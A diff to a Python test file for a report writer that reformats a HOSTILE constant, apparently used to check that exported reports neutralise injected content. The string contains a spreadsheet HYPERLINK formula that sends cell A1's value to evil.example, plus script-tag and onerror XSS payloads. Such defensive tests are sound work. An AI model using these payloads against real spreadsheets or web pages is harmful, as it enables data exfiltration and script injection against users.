@@ -13,7 +13,8 @@ from rageval_desktop.core.reports import write_report
 from rageval_desktop.core.reports.write import neutralise
 from tests.core.test_metrics import build
 
-HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script> <img src=x onerror=alert(2)> $x^2$'
+HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script> '
+           '<img src=x onerror=alert(2)> $x^2$')
 
 
 @pytest.fixture
